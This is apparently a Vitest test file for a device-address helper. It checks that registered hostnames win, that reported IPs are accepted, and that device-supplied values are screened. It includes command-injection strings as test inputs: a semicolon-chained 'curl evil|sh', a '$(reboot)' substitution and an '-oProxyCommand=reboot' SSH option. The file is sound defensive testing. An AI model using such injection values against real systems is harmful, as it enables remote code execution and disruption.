import { expect, test } from 'vitest'
import { isServerItself, reachAddress } from '../src/device-actions/reach-address.ts'

test('the registered address goes before the one that the device gives', () => {
  expect(reachAddress({ address: 'pi-1.factory.lan', ipAddress: '192.168.10.31' })).toBe('pi-1.factory.lan')
})

test.each(['192.168.10.31', 'fe80::1', '2001:db8::31'])('%s, given by the device, is used', (ipAddress) => {
  expect(reachAddress({ address: null, ipAddress })).toBe(ipAddress)
})

test.each(['1.1.1.1;curl evil|sh #', '$(reboot)', '-oProxyCommand=reboot', '1.1.1.1\n', 'evil.example', ''])(
  '%j, given by a device, gets into no command',
  (ipAddress) => {
    expect(reachAddress({ address: null, ipAddress })).toBeUndefined()
  }
)

test.each([
  ['127.0.0.1', true],
  ['192.0.2.3', false],
  ['127.1.0.3', false],
  [null, false]
])('a device registered at %s is the server itself: %s', (registered, isIt) => {
  expect(isServerItself(registered)).toBe(isIt)
})
